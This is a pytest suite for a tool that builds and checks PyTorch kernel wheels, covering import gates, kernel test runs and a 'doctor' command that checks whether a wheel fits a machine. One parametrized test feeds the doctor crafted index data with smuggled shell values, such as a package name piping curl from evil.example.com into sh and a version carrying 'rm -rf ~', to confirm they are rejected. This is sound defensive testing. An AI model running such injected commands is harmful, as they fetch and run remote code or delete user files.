"""Proving wheels by running them: the import gate (a wheel loaded with a torch, its missing
symbols named, its ops and their torch.compile readiness read), `factory test` (the kernel's
own tests against its wheel), the import guard that names its index, and `factory doctor`."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import textwrap
import time
import types
import zipfile
from pathlib import Path

import pytest

from factory import doctor
from factory.compile.generated import import_guard
from factory.prove.load import LoadReport, importable_modules, load_problems, load_wheel
from factory.prove.tests import INJECT, PLUGIN, TestReport, _how_far, _report
from factory.system.process import Log
from factory.wheel.assemble import CoreMetadata, relabelled, write_wheel
from factory.wheel.read import PROVENANCE_FILE

from .conftest import REPO, cache_env, factory_main, run_factory, venv_python, write

# ---- pure parts ----------------------------------------------------------------------------


def test_the_modules_a_wheel_makes_importable():
    files = ["img2gray/__init__.py", "img2gray/_ops.py", "img2gray-1.0.dist-info/METADATA",
             "causal_conv1d_cuda.cpython-312-x86_64-linux-gnu.so", "helper.py",
             "causal_conv1d.libs/libx.so", "pkg.data/scripts/tool", "pkg/sub/__init__.py"]
    assert importable_modules(files) == ["causal_conv1d_cuda", "helper", "img2gray"]


def test_junit_counts_become_the_report(tmp_path):
    write(tmp_path / "junit.xml", """
        <testsuites><testsuite name="pytest" tests="14" failures="1" errors="2" skipped="6">
        </testsuite></testsuites>
    """)
    write(tmp_path / "machine.json", '{"gpus": ["NVIDIA H100 80GB HBM3"], "torch": "2.11.0"}')
    report = _report(tmp_path / "junit.xml", tmp_path / "machine.json", 3.25, 1)
    assert (report.passed, report.failed, report.errors, report.skipped) == (5, 1, 2, 6)
    assert not report.ok
    assert report.describe() == ("5 passed, 1 failed, 2 error(s), 6 skipped on NVIDIA H100 80GB "
                                 "HBM3 in 3.2 s")
    assert TestReport.from_json(report.to_json()) == report
    assert TestReport.from_json({"passed": "x"}) is None


def test_a_suite_stopped_at_its_limit_says_how_far_it_got(tmp_path):
    """The plugin's tally, kept by a real pytest run (a stand-in torch: the plugin asks it only
    whether a GPU is there), becomes the words of the time-limit failure."""
    write(tmp_path / "stand-in" / "torch" / "__init__.py", """
        __version__ = "0.0"
        class cuda:
            @staticmethod
            def is_available():
                return False
    """)
    write(tmp_path / "tests" / "test_some.py", """
        import pytest


        def test_passes():
            pass


        def test_fails():
            assert False


        @pytest.fixture
        def broken():
            raise RuntimeError("setup")


        def test_errors(broken):
            pass


        @pytest.mark.skip(reason="not here")
        def test_skipped():
            pass


        def test_last():
            pass
    """)
    progress = tmp_path / "progress.json"
    env = {**os.environ, "KERNEL_WHEEL_FACTORY_TEST_PROGRESS": str(progress),
           "PYTHONPATH": os.pathsep.join([str(tmp_path / "stand-in"), str(INJECT)])}
    subprocess.run([sys.executable, "-m", "pytest", "-p", PLUGIN, "-p", "no:cacheprovider",
                    "-q", "tests", "--deselect", "tests/test_some.py::test_last"],
                   cwd=tmp_path, env=env, capture_output=True, check=False, timeout=120)
    assert json.loads(progress.read_text()) == {
        "chosen": 4, "ended": 4, "passed": 1, "failed": 1, "errors": 1, "skipped": 1,
        "running": ""}
    assert _how_far(progress) == ": 4 of 4 ended (1 passed, 1 failed, 1 error(s), 1 skipped), " \
                                 "pytest still reporting"
    progress.write_text('{"chosen": 416, "ended": 12, "passed": 11, "failed": 1, "errors": 0, '
                        '"skipped": 0, "running": "test_x.py::test_y[3]"}')
    assert _how_far(progress) == ": 12 of 416 ended (11 passed, 1 failed), test_x.py::test_y[3] " \
                                 "running"
    progress.write_text('{"chosen": 1, "ended": 0, "passed": 0, "failed": 0, "errors": 0, '
                        '"skipped": 0, "running": "test_x.py::test_\\u001b[2J\\u0007y"}')
    assert _how_far(progress) == ": 0 of 1 ended (none), test_x.py::test_[2Jy running"
    for unreadable in ("{", "[1, 2]", '{"chosen": "many"}', " " * 2**17):
        progress.write_text(unreadable)
        assert _how_far(progress) == ""


def run_guard(guard: str, version: str, cuda: str | None) -> str:
    """The guard's code run against a torch of this version and CUDA; its ImportError."""
    torch = types.SimpleNamespace(__version__=version, version=types.SimpleNamespace(cuda=cuda))
    with pytest.raises(ImportError) as refused:
        exec(guard, {"torch": torch})
    return str(refused.value)


def test_the_guard_names_the_full_url_of_the_index_when_it_is_known():
    guard = import_guard("img2gray", "1.0.0+cu130torch211", "2.11", "13.0", "cu{cuda}torch{torch}",
                         index_url="https://kernels.example.org/wheels")
    message = run_guard(guard, "2.12.0+cu130", "13.0")
    assert "from the index https://kernels.example.org/wheels/cu130torch212/simple," in message
    assert "CUDA 12" not in message
    message = run_guard(guard, "2.11.0+cu128", "12.8")
    assert "https://kernels.example.org/wheels/cu128torch211/simple" in message
    unknown = import_guard("img2gray", "1.0.0+cu130torch211", "2.11", "13.0",
                           "cu{cuda}torch{torch}")
    assert "the 'cu130torch212' index (.../cu130torch212/simple)" in run_guard(
        unknown, "2.12.0+cu130", "13.0")


def test_base_url_must_be_a_plain_http_url(capsys, tmp_path):
    for bad in ("ftp://example.org/x", "https://user:secret@example.org/x", "example.org",
                "https://example.org/x?token=abcdef0123456789"):
        result = factory_main("build", REPO / "matrix.yaml", "--out", tmp_path / "out",
                              "--base-url", bad, capsys=capsys)
        assert result.exit == 2, bad
        assert "--base-url" in result.stdout + result.stderr and "secret" not in result.stdout
    assert not (tmp_path / "out").exists()


GPU_FACTS = {"python": "3.12.3", "implementation": "cpython", "abi": "cp312", "platform": "linux",
             "machine": "x86_64", "glibc": "2.39",
             "torch": {"version": "2.11.0+cu130", "cuda": "13.0", "cxx11_abi": True},
             "driver": {"cuda": "13.0", "gpus": [{"name": "NVIDIA H100 80GB HBM3", "sm": "9.0"}]}}
WHEEL = {"filename": "img2gray-1.0.0+cu130torch211-cp39-abi3-manylinux_2_34_x86_64.whl",
         "torch": "==2.11.*", "gpu_code": ["compute_90", "sm_90"]}
CELL = {"cuda": "13.0"}


def test_doctor_reads_specifiers_and_gpu_code_as_pip_and_the_driver_do():
    assert doctor._holds("==2.11.*", "2.11.0+cu130") and not doctor._holds("==2.11.*", "2.12.0")
    assert doctor._holds(">=2.10,<3", "2.13.1") and not doctor._holds(">=2.10,<3", "3.0")
    assert doctor._holds("==2.11.0", "2.11") and not doctor._holds("!=2.11.*", "2.11.3")
    assert doctor._holds("~=2.11.1", "2.11.5") and not doctor._holds("~=2.11.1", "2.12.0")
    assert doctor._sm_fits(["sm_80"], "8.6") and not doctor._sm_fits(["sm_86"], "8.0")
    assert not doctor._sm_fits(["sm_80"], "9.0") and doctor._sm_fits(["compute_80"], "9.0")
    assert doctor._sm_fits(["sm_90a"], "9.0") and not doctor._sm_fits(["sm_90a"], "10.0")


def test_doctor_says_why_a_wheel_does_not_fit():
    assert doctor.why_not(WHEEL, CELL, GPU_FACTS) == []
    cpu = {**GPU_FACTS, "torch": {"version": "2.13.0+cpu", "cuda": None}, "driver": None}
    assert doctor.why_not(WHEEL, CELL, cpu) == [
        "it needs torch==2.11.*, this Python has torch 2.13.0+cpu",
        "it is built for CUDA 13.0, and torch 2.13.0+cpu is a build without CUDA"]
    old = {**GPU_FACTS, "glibc": "2.31", "machine": "aarch64",
           "driver": {"cuda": "12.8", "gpus": [{"name": "NVIDIA A100", "sm": "8.0"}]}}
    assert doctor.why_not(WHEEL, CELL, old) == [
        "it is for x86_64, this machine is aarch64",
        "it needs a driver for CUDA 13, this driver supports CUDA 12.8",
        "it holds no code for the NVIDIA A100 (SM 8.0): it has compute_90 sm_90"]
    cp311 = {**WHEEL, "filename": "relu_scale-1.0.0+cu130torch211-cp311-cp311-"
                                  "manylinux_2_34_x86_64.whl"}
    assert doctor.why_not(cp311, CELL, GPU_FACTS) == ["it is for CPython 3.11, this is 3.12.3"]
    assert doctor.why_not(WHEEL, CELL, {**GPU_FACTS, "glibc": "2.31"}) == [
        "it needs glibc 2.34 or newer, this machine has 2.31"]


def test_doctor_pins_an_older_release_when_the_newest_cannot_run_here(tmp_path, capsys):
    """pip would take 1.1.0, whose wheel has no code for this GPU: the doctor pins 1.0.0 and
    says why 1.1.0 does not fit (the browse data as `factory index` writes it, read through a
    file:// URL)."""
    sm80 = {**WHEEL, "filename": WHEEL["filename"].replace("1.0.0", "1.1.0"),
            "gpu_code": ["sm_80"], "label": "cu130torch211"}
    fits = {**WHEEL, "label": "cu130torch211"}
    cell = {"torch": "2.11", "cuda": "13.0", "label": "cu130torch211", "status": "built"}
    write(tmp_path / "browse.json", json.dumps(
        {"packages": [{"name": "img2gray", "project": "img2gray", "latest": "1.1.0"}]}))
    write(tmp_path / "browse" / "img2gray.json", json.dumps({"name": "img2gray", "versions": [
        {"version": "1.1.0", "cells": [{**cell, "wheels": [sm80]}], "anywhere": []},
        {"version": "1.0.0", "cells": [{**cell, "wheels": [fits]}], "anywhere": []}]}))
    (result,) = doctor.diagnose(tmp_path.as_uri() + "/", "img2gray", GPU_FACTS)
    root = tmp_path.as_uri() + "/"
    assert result["fits"]["pip"] == ("pip install img2gray==1.0.0 --extra-index-url "
                                     f"{root}cu130torch211/simple/")
    (miss,) = result["misses"]
    assert miss["version"] == "1.1.0" and miss["reasons"] == [
        "it holds no code for the NVIDIA H100 80GB HBM3 (SM 9.0): it has sm_80"]
    no_gpu = {**GPU_FACTS, "driver": None}
    (newest,) = doctor.diagnose(root, None, no_gpu)
    assert newest["fits"]["pip"].startswith("pip install img2gray --extra-index-url")


GOOD_RELEASE = {"version": "1.0.0", "cells": [{"torch": "2.11", "cuda": "13.0",
                                               "label": "cu130torch211",
                                               "wheels": [{**WHEEL, "label": "cu130torch211"}]}],
                "anywhere": []}


def crafted_index(root: Path, browse: object, package: object = None) -> str:
    write(root / "browse.json", json.dumps(browse))
    if package is not None:
        write(root / "browse" / "img2gray.json", json.dumps(package))
    return root.as_uri() + "/"


def replaced_wheel(**fields: object) -> dict:
    cell = {**GOOD_RELEASE["cells"][0], "wheels": [{**WHEEL, **fields}]}
    return {"name": "img2gray", "versions": [{**GOOD_RELEASE, "cells": [cell]}]}


PACKAGES = {"packages": [{"name": "img2gray", "project": "img2gray"}]}


@pytest.mark.parametrize(("browse", "package", "said"), [
    ([1, 2], None, "holds an index that is not a table"),
    ({"packages": {"img2gray": 1}}, None, "holds packages that is not a list"),
    ({"packages": ["img2gray"]}, None, "holds a package that is not a table"),
    ({"packages": [{"name": "x; curl https://evil.example.com | sh"}]}, None,
     "holds a package name that is not one"),
    ({"packages": [{"name": "img2gray\x1b[2J"}]}, None, "holds a package name that is not one"),
    (PACKAGES, {"name": "img2gray", "versions": {"1.0": 1}}, "holds versions that is not a list"),
    (PACKAGES, {"name": "img2gray", "versions": [{**GOOD_RELEASE, "version": "1.0 && rm -rf ~"}]},
     "holds a version that is not one"),
    (PACKAGES, replaced_wheel(filename="img2gray\x1b[31m.whl"),
     "holds a wheel file name that is not one"),
    (PACKAGES, replaced_wheel(label="cu130 --index-url https://evil.example.com"),
     "holds a label that is not one"),
    (PACKAGES, replaced_wheel(torch="==2.11.* ; curl evil"), "holds a torch requirement"),
    (PACKAGES, replaced_wheel(gpu_code={"sm_90": True}), "holds GPU code that is not a list"),
    (PACKAGES, replaced_wheel(gpu_code=[90]), "holds a GPU code that is not one"),
    (PACKAGES, {"name": "img2gray", "versions": [{**GOOD_RELEASE, "cells": [
        {**GOOD_RELEASE["cells"][0], "cuda": 13}]}]}, "holds a CUDA version that is not one"),
    (PACKAGES, {"name": "img2gray", "versions": [{**GOOD_RELEASE, "cells": "all"}]},
     "holds cells that is not a list"),
    (PACKAGES, "nothing", "holds a package that is not a table"),
])
def test_doctor_takes_a_crafted_index_as_data_and_says_so_in_one_line(tmp_path, capsys, browse,
                                                                     package, said):
    url = crafted_index(tmp_path, browse, package)
    assert doctor.main([url]) == 1
    captured = capsys.readouterr()
    (line,) = captured.err.splitlines()
    assert line.startswith("error: the index's browse data ") and said in line
    assert "\x1b" not in captured.out + captured.err


def test_doctor_composes_its_commands_itself_and_quotes_what_it_was_given(tmp_path, capsys):
    crafted_index(tmp_path / "a&b", PACKAGES, {"name": "img2gray", "versions": [GOOD_RELEASE]})
    url = f"file://{tmp_path}/a&b/"  # the URL as the user gave it: `&` would end a command
    (result,) = doctor.diagnose(url, "img2gray", GPU_FACTS)
    index = f"{url}cu130torch211/simple/"
    assert result["fits"]["pip"] == f"pip install img2gray --extra-index-url '{index}'"
    deep = crafted_index(tmp_path / "deep", json.loads("[" * 100 + "]" * 100))
    assert doctor.main([deep]) == 1 and len(capsys.readouterr().err.splitlines()) == 1


def test_doctor_without_arguments_reports_this_machine(capsys):
    assert doctor.main([]) == 0
    out = capsys.readouterr().out
    assert f"Python     {sys.version.split()[0]}" in out and "glibc" in out
    assert "driver" in out


def test_doctor_names_an_index_it_cannot_read(capsys):
    assert doctor.main(["http://127.0.0.1:9/nothing/"]) == 1
    assert capsys.readouterr().err.startswith("error: no kernel-wheel-factory index at ")


# ---- the import gate, with a real torch -----------------------------------------------------

def kernel_matrix(folder: Path) -> Path:
    """matrix.yaml of the example's cell, for a copy of the example in folder/img2gray."""
    return write(folder / "matrix.yaml", """
        kernels:
          - path: img2gray
            version: 1.0.0
        torch: ["2.11"]
        cuda:
          "13.0":
            sms: ["9.0"]
    """)


def make_wheel(tmp_path: Path, name: str, files: dict[str, str | bytes], tag: str) -> Path:
    content = tmp_path / f"{name}-content"
    for relative, data in files.items():
        target = content / relative
        target.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, bytes):
            target.write_bytes(data)
        else:
            target.write_text(textwrap.dedent(data).lstrip())
    metadata = CoreMetadata(name=name, version="1.0", summary="test", requires_python=">=3.9",
                            requires=("torch",), license=None, readme=None)
    return write_wheel(content, tmp_path / "dist", metadata, tag, purelib=tag.endswith("any"),
                       epoch=1_700_000_000)


@pytest.mark.slow
def test_the_import_gate_names_a_symbol_the_torch_lacks(tmp_path, torch_venv):
    """A shared object that calls into a torch other than the cell's: the loader refuses it,
    and the gate says which symbol, demangled."""
    source = write(tmp_path / "native.cpp", """
        namespace c10 { void kwf_symbol_from_another_torch(int); }
        extern "C" void* PyInit__native() { c10::kwf_symbol_from_another_torch(1); return 0; }
    """)
    library = tmp_path / "_native.abi3.so"
    subprocess.run(["g++", "-shared", "-fPIC", "-o", library, source], check=True)
    wheel = make_wheel(tmp_path, "kwf_missing", {
        "kwf_missing/__init__.py": "import torch\nfrom . import _native\n",
        "kwf_missing/_native.abi3.so": library.read_bytes()}, "cp39-abi3-linux_x86_64")
    with open(tmp_path / "load.log", "w") as handle:
        report = load_wheel(wheel, importable_modules(zipfile.ZipFile(wheel).namelist()),
                            str(torch_venv / "bin/python"), tmp_path / "load", Log(handle))
    assert report.imported == () and report.torch.startswith("2.11.")
    (problem,) = load_problems(report)
    assert problem.startswith("import: ImportError: ")
    assert problem.endswith("_native.abi3.so: undefined symbol: "
                            "c10::kwf_symbol_from_another_torch(int)"), problem


@pytest.mark.slow
def test_a_built_wheel_that_calls_into_another_torch_is_not_published(tmp_path, factory_cache):
    """The example, its binding calling a function the cell's torch lacks: the build links
    (a shared object may leave symbols to the loader), the import gate fails the cell with the
    symbol named, and nothing is published."""
    kernel = shutil.copytree(REPO / "examples" / "img2gray", tmp_path / "img2gray")
    binding = kernel / "torch-ext" / "torch_binding.cpp"
    binding.write_text(binding.read_text().replace(
        "at::Tensor img2gray_cpu(const at::Tensor& rgb) {\n",
        "namespace c10 { void kwf_symbol_from_another_torch(int); }\n\n"
        "at::Tensor img2gray_cpu(const at::Tensor& rgb) {\n"
        "  c10::kwf_symbol_from_another_torch(1);\n", 1))
    kernel_matrix(tmp_path)
    out = tmp_path / "index"
    result = run_factory("build", "matrix.yaml", "--out", out, "--runner", "local",
                         cwd=tmp_path, env=cache_env(factory_cache))
    assert result.exit == 1, result.stdout + result.stderr
    assert "failed its import gate" in " ".join(result.stdout.split()), result.stdout
    log = (out / "logs" / "img2gray-cu130torch211-x86_64.log").read_text()
    assert re.search(r"^FAILED: img2gray-\S+\.whl failed its import gate: import: ImportError: "
                     r"\S+\.abi3\.so: undefined symbol: c10::kwf_symbol_from_another_torch\(int\)$",
                     log, re.M), log[-3000:]
    assert not list((out / "files").glob("*.whl"))


OPS_PACKAGE = """
    import torch

    lib = torch.library.Library("kwf_ops", "DEF")
    for name in ("cpu_only", "with_fake", "explicit", "implicit", "declared"):
        lib.define(name + "(Tensor x) -> Tensor")
    lib.impl("cpu_only", lambda x: x * 2, "CPU")
    lib.impl("with_fake", lambda x: x * 2, "CPU")
    torch.library.register_fake("kwf_ops::with_fake")(lambda x: torch.empty_like(x))
    lib.impl("explicit", lambda x: x * 2, "CompositeExplicitAutograd")
    lib.impl("implicit", lambda x: x * 2, "CompositeImplicitAutograd")
"""

GROUND_TRUTH = """
    import json, sys, warnings
    warnings.simplefilter("ignore")
    sys.path.insert(0, sys.argv[1])
    import torch, kwf_ops
    from torch._subclasses.fake_tensor import FakeTensorMode
    traced = {}
    for name in ("cpu_only", "with_fake", "explicit", "implicit"):
        try:
            with FakeTensorMode():
                getattr(torch.ops.kwf_ops, name)(torch.empty(3, device="cuda"))
            traced[name] = True
        except Exception:
            traced[name] = False
    print(json.dumps(traced))
"""


@pytest.mark.slow
def test_torch_compile_readiness_agrees_with_fake_tensors(tmp_path, torch_venv):
    """The probe's verdict on each op is what FakeTensorMode (torch.compile's tracer) does with
    it; an op declared with no kernel fails the gate."""
    wheel = make_wheel(tmp_path, "kwf_ops", {"kwf_ops/__init__.py": OPS_PACKAGE}, "py3-none-any")
    with open(tmp_path / "load.log", "w") as handle:
        report = load_wheel(wheel, ["kwf_ops"], str(torch_venv / "bin/python"),
                            tmp_path / "load", Log(handle))
    verdicts = {op.name.split("::")[1]: op for op in report.ops}
    assert sorted(verdicts) == ["cpu_only", "declared", "explicit", "implicit", "with_fake"]
    script = write(tmp_path / "truth.py", GROUND_TRUTH)
    truth = json.loads(subprocess.run([torch_venv / "bin/python", script, tmp_path / "load/site"],
                                      capture_output=True, text=True, check=True).stdout)
    assert truth == {"cpu_only": False, "with_fake": True, "explicit": True, "implicit": True}
    assert {name: verdicts[name].fake for name in truth} == truth
    assert verdicts["with_fake"].keys == ("CPU", "Meta")
    assert load_problems(report) == ["import: the op kwf_ops::declared is declared, but no "
                                     "kernel of it is registered for any device"]


OUTSIDE_MODULE = """
    import torch

    _own = torch.library.Library("kwf_outside", "DEF")
    _own.define("declared(Tensor x) -> Tensor")
    _own.define("with_cpu(Tensor x) -> Tensor")
    _own.impl("with_cpu", lambda x: x, "CPU")
    _lent = []

    def declare(namespace):
        library = torch.library.Library(namespace, "FRAGMENT")
        library.define("helped(Tensor x) -> Tensor")
        _lent.append(library)
"""

USER_PACKAGE = """
    import torch
    import kwf_outside_ops

    lib = torch.library.Library("kwf_user", "DEF")
    lib.define("twice(Tensor x) -> Tensor")
    lib.impl("twice", lambda x: x * 2, "CPU")
    lib.define("sparse(Tensor x) -> Tensor")
    lib.impl("sparse", lambda x: x, "SparseCsrCUDA")
    kwf_outside_ops.declare("kwf_user")
"""


@pytest.mark.slow
def test_ops_that_modules_outside_the_wheel_register_are_not_the_wheels(tmp_path, torch_venv):
    """A kernel whose import loads other modules (natten loads torch's flex attention, which
    registers Triton ops with no kernel here): what those modules register on their own is
    reported apart and not judged; what the wheel makes them register for it stays its own. An
    op with a kernel for one backend-specific key only (as torch's Triton sparse ops) has one."""
    site = Path(venv_python(torch_venv, "-c", "import torch, os; "
                            "print(os.path.dirname(os.path.dirname(torch.__file__)))").strip())
    outside = write(site / "kwf_outside_ops.py", OUTSIDE_MODULE)
    try:
        wheel = make_wheel(tmp_path, "kwf_user", {"kwf_user/__init__.py": USER_PACKAGE},
                           "py3-none-any")
        with open(tmp_path / "load.log", "w") as handle:
            report = load_wheel(wheel, ["kwf_user"], str(torch_venv / "bin/python"),
                                tmp_path / "load", Log(handle))
    finally:
        outside.unlink()
    assert report.imported == ("kwf_user",)
    assert {op.name: op.keys for op in report.ops} == {
        "kwf_user::helped": (), "kwf_user::sparse": ("SparseCsrCUDA",), "kwf_user::twice": ("CPU",)}
    assert report.others == ("kwf_outside::declared", "kwf_outside::with_cpu")
    assert load_problems(report) == ["import: the op kwf_user::helped is declared, but no "
                                     "kernel of it is registered for any device"]
    assert ("and 2 op(s) that modules from outside the wheel registered when it loaded them "
            "(not the wheel's; namespaces kwf_outside)") in (tmp_path / "load.log").read_text()
    assert LoadReport.from_json(report.to_json()) == report


@pytest.mark.slow
def test_the_example_passes_the_import_gate_and_records_its_op(example_build):
    out, _ = example_build
    log = (out / "logs" / "img2gray-cu130torch211-x86_64.log").read_text()
    assert re.search(r"imported img2gray with torch 2\.11\.0\+cu130: 1 op\(s\), 1 with a fake "
                     r"implementation", log), log[-2000:]
    manifest = json.loads((out / ".factory" / "manifest.json").read_text())
    (ops,) = [cell["ops"] for cell in manifest["cells"].values()]
    (op,) = ops
    assert op["name"].endswith("::img2gray") and op["fake"] is True
    assert op["keys"] == ["CPU", "CUDA", "Meta"]
    wheel = next((out / "files").glob("*.whl"))
    shown = run_factory("inspect", wheel)
    assert shown.exit == 0, shown.stdout
    assert "recorded by the import gate of cell img2gray/cu130torch211/x86_64" in shown.stdout
    assert "ready (fake implementation)" in shown.stdout


# ---- factory test ---------------------------------------------------------------------------

@pytest.mark.slow
def test_factory_test_runs_the_example_tests_against_its_wheel(example_tested, factory_cache):
    out, result = example_tested
    assert result.exit == 0, result.stdout + result.stderr
    # 8 CPU tests (the torch.compile one among them) pass; the 6 GPU ones are skipped here.
    assert "8 passed, 0 failed, 6 skipped with no GPU" in result.stdout, result.stdout
    log = (out / "logs" / "img2gray-cu130torch211-x86_64.tests.log").read_text()
    assert "test_torch_compile_traces_the_op_in_one_graph[cpu] PASSED" in log or \
        "8 passed, 6 skipped" in log
    state = json.loads((out / ".factory/cells/img2gray-cu130torch211-x86_64.json").read_text())
    assert (state["tests"]["passed"], state["tests"]["skipped"], state["tests"]["gpus"]) == \
        (8, 6, [])
    browse = json.loads((out / "browse" / "img2gray.json").read_text())
    (cell,) = browse["versions"][0]["cells"]
    assert cell["tests"]["passed"] == 8 and cell["ops"][0]["fake"] is True
    strict = run_factory("test", "matrix.yaml", "--out", out, "--require-gpu", cwd=REPO,
                         env=cache_env(factory_cache))
    assert strict.exit == 1 and "--require-gpu: some cells' tests ran with no GPU" in \
        strict.stdout


@pytest.mark.slow
def test_a_wheel_whose_tests_fail_is_not_published(tmp_path, factory_cache):
    """`factory build --test`: a test that just calls CUDA (as most kernels' tests do) is
    reported as skipped, with the reason, where there is no GPU; get_kernel() gets the
    installed wheel; a real failure fails the cell, and its wheel is not published."""
    kernel = shutil.copytree(REPO / "examples" / "img2gray", tmp_path / "img2gray")
    shutil.rmtree(kernel / "tests")
    write(kernel / "tests" / "test_hub_style.py", """
        import torch
        from kernels import get_kernel

        img2gray = get_kernel("kernels-community/img2gray")


        def test_on_the_gpu():
            rgb = torch.zeros(4, 4, 3, dtype=torch.uint8, device="cuda")
            assert img2gray.img2gray(rgb).shape == (4, 4)


        def test_on_the_cpu():
            assert img2gray.img2gray(torch.zeros(4, 4, 3, dtype=torch.uint8)).shape == (4, 4)


        def test_a_real_failure():
            assert img2gray.img2gray(torch.zeros(1, 1, 3, dtype=torch.uint8)).item() == 1
    """)
    kernel_matrix(tmp_path)
    out = tmp_path / "index"
    result = run_factory("build", "matrix.yaml", "--out", out, "--runner", "local", "--test",
                         cwd=tmp_path, env=cache_env(factory_cache))
    assert result.exit == 1, result.stdout + result.stderr
    assert "failed the kernel's tests: 1 passed, 1 failed, 1 skipped with no GPU" in \
        " ".join(result.stdout.split()), result.stdout
    assert not list((out / "files").glob("*.whl"))
    log = (out / "logs" / "img2gray-cu130torch211-x86_64.log").read_text()
    assert "needs a GPU, and this machine has none" in log
    assert "FAILED tests/test_hub_style.py::test_a_real_failure" in log


@pytest.mark.slow
def test_the_chosen_tests_run_with_what_flake_nix_names_and_within_their_time(tmp_path,
                                                                             factory_cache):
    """A kernel's `tests:` in matrix.yaml: only the chosen files and -k expression run, in an
    environment with what flake.nix's pythonCheckInputs name (einops, as flash-attention's
    tests need), and the report says what was chosen. The tests are the kernel's own code:
    they see none of the factory's secrets, and a home of their own. A hung test is killed at
    the timeout, with whatever it started, and the cell fails in one line."""
    kernel = shutil.copytree(REPO / "examples" / "img2gray", tmp_path / "img2gray")
    shutil.rmtree(kernel / "tests")
    write(kernel / "flake.nix", """
        {
          outputs = { self, kernel-builder }:
            kernel-builder.lib.genKernelFlakeOutputs {
              # pythonCheckInputs = pkgs: with pkgs; [ not-this-one ];
              pythonCheckInputs = ps: [ ps.einops ];
            };
        }
    """)
    write(kernel / "tests" / "test_chosen.py", """
        import os
        from pathlib import Path

        import einops
        import torch
        from kernels import get_kernel

        img2gray = get_kernel("kernels-community/img2gray")


        def test_picked():
            rgb = einops.rearrange(torch.zeros(3, 4, 4, dtype=torch.uint8), "c h w -> h w c")
            assert img2gray.img2gray(rgb).shape == (4, 4)


        def test_sees_none_of_the_factory_s_secrets():
            assert not [name for name, value in os.environ.items() if "s3cret" in value]
            assert os.environ["CUDA_VISIBLE_DEVICES"] == "0"
            assert Path(os.environ["HOME"]).resolve().is_relative_to(Path.cwd().resolve())


        def test_left_out():
            raise AssertionError("the -k expression leaves this test out")
    """)
    write(kernel / "tests" / "test_hangs.py", """
        import subprocess
        import sys
        import time


        def test_ends():
            pass


        def test_never_ends():
            subprocess.Popen([sys.executable, "-c", "import time; time.sleep(900)"])
            time.sleep(900)
    """)
    matrix = kernel_matrix(tmp_path)
    matrix.write_text(matrix.read_text().replace("    version: 1.0.0\n", """    version: 1.0.0
    tests:
      paths: [test_chosen.py]
      keyword: not left_out
      timeout: 5m
"""))
    out = tmp_path / "index"
    env = {**cache_env(factory_cache), "HF_TOKEN": "hf_s3cret", "TWINE_PASSWORD": "pw-s3cret",
           "AWS_SECRET_ACCESS_KEY": "aws-s3cret", "GITHUB_TOKEN": "ghp_s3cret",
           "CUDA_VISIBLE_DEVICES": "0", "CUDA_AUTH_TOKEN": "cuda-s3cret"}
    result = run_factory("build", "matrix.yaml", "--out", out, "--runner", "local", "--test",
                         cwd=tmp_path, env=env)
    assert result.exit == 0, result.stdout + result.stderr
    log = (out / "logs" / "img2gray-cu130torch211-x86_64.log").read_text()
    assert "einops" in log.split("making the test environment", 1)[1].splitlines()[0]
    assert "not-this-one" not in log
    state = json.loads((out / ".factory/cells/img2gray-cu130torch211-x86_64.json").read_text())
    assert (state["tests"]["passed"], state["tests"]["failed"]) == (2, 0), state["tests"]
    assert state["tests"]["selection"] == "test_chosen.py -k 'not left_out'"
    assert "skipped with no GPU in" in log and "(chosen: test_chosen.py -k 'not left_out')" in log

    matrix.write_text(matrix.read_text().replace("paths: [test_chosen.py]",
                                                 "paths: [test_hangs.py]")
                      .replace("timeout: 5m", "timeout: 15s"))
    started = time.monotonic()
    hung = run_factory("test", "matrix.yaml", "--out", out, cwd=tmp_path, env=env)
    assert hung.exit == 1, hung.stdout + hung.stderr
    assert time.monotonic() - started < 300  # the test sleeps 900 s
    hung_log = (out / "logs" / "img2gray-cu130torch211-x86_64.tests.log").read_text()
    assert ("FAILED: the tests did not finish in 15 s: 1 of 2 ended (1 passed), "
            "tests/test_hangs.py::test_never_ends running") in hung_log, hung_log[-2000:]
    assert "Traceback" not in hung.stdout + hung.stderr
    sleepers = subprocess.run(["pgrep", "-f", "time.sleep\\(900\\)"], capture_output=True,
                              text=True)
    assert sleepers.stdout == "", "the hung test's own process outlived the timeout"


# ---- factory doctor on a served index of three cells ----------------------------------------

def another_cell(wheel: Path, folder: Path, label: str, torch: str, cuda: str) -> Path:
    """The example's wheel as if built for another cell (the index and the doctor read only
    its filename, METADATA and provenance)."""
    content = folder / f"{label}-content"
    with zipfile.ZipFile(wheel) as archive:
        names = archive.namelist()
        dist_info = next(name.split("/")[0] for name in names if name.endswith("/METADATA"))
        metadata = archive.read(f"{dist_info}/METADATA")
        provenance = json.loads(archive.read(f"{dist_info}/{PROVENANCE_FILE}"))
        for name in names:
            if not name.startswith(dist_info + "/"):
                (content / name).parent.mkdir(parents=True, exist_ok=True)
                (content / name).write_bytes(archive.read(name))
    cell = provenance["cell"]
    cell.update(id=f"img2gray/{label}/x86_64", label=label, torch=torch, cuda=cuda)
    version = f"1.0.0+{label}"
    tag = wheel.name.split("-", 2)[2][:-len(".whl")]
    return write_wheel(content, folder / "files",
                       relabelled(metadata, version, f"torch=={torch}.*"), tag, purelib=False,
                       epoch=1_700_000_000,
                       extra_dist_info={PROVENANCE_FILE: json.dumps(provenance).encode()})


@pytest.fixture(scope="module")
def three_cells(example_wheel, tmp_path_factory):
    out = tmp_path_factory.mktemp("doctor") / "index"
    (out / "files").mkdir(parents=True)
    shutil.copy(example_wheel, out / "files")
    another_cell(example_wheel, out, "cu130torch212", "2.12", "13.0")
    another_cell(example_wheel, out, "cu128torch210", "2.10", "12.8")
    assert run_factory("index", "--out", out).exit == 0
    process = subprocess.Popen([sys.executable, "-m", "factory", "serve", str(out), "--port",
                                "0"], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
    url = process.stdout.readline().split(" at ", 1)[1].split()[0]
    yield url
    process.terminate()
    process.wait()


def served_doctor(url: str, python: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """doctor.py as the index serves it, run by `python` (curl -s URL/doctor.py | python -)."""
    from urllib.request import urlopen

    with urlopen(url + "doctor.py") as response:
        program = response.read()
    return subprocess.run([str(python), "-", *args], input=program.decode(),
                          capture_output=True, text=True)


@pytest.mark.slow
def test_doctor_picks_the_cell_of_the_installed_torch(three_cells, torch_venv, factory_cache):
    done = served_doctor(three_cells, torch_venv / "bin/python",
                         three_cells + "cu130torch211/simple/", "img2gray")
    assert done.returncode == 0, done.stdout + done.stderr
